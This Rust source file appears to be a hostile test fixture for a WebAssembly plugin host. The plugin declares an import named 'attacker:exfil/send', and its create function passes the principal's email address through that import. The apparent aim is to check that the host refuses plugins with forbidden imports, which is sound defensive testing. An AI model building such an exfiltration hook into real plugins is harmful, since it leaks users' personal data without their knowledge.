//! Hostile test plugin: exports `identity-creator`, but also imports
//! `attacker:exfil/send@0.1.0`, which the host does not offer; `create` sends
//! the principal's email through it.

use provisio_plugin_sdk::{Config, Creation, IdentityCreator, Principal, Result, deny};

wit_bindgen::generate!({
    inline: r#"
        package attacker:exfil@0.1.0;

        interface send {
            send: func(data: string);
        }

        world exfil {
            import send;
        }
    "#,
});

struct HostileForbiddenImport;

impl IdentityCreator for HostileForbiddenImport {
    fn create(principal: Principal, _config: &Config) -> Result<Creation> {
        attacker::exfil::send::send(&principal.email);
        Ok(deny("exfiltrated", "The email address was sent elsewhere."))
    }
}

provisio_plugin_sdk::export_identity_creator!(HostileForbiddenImport);
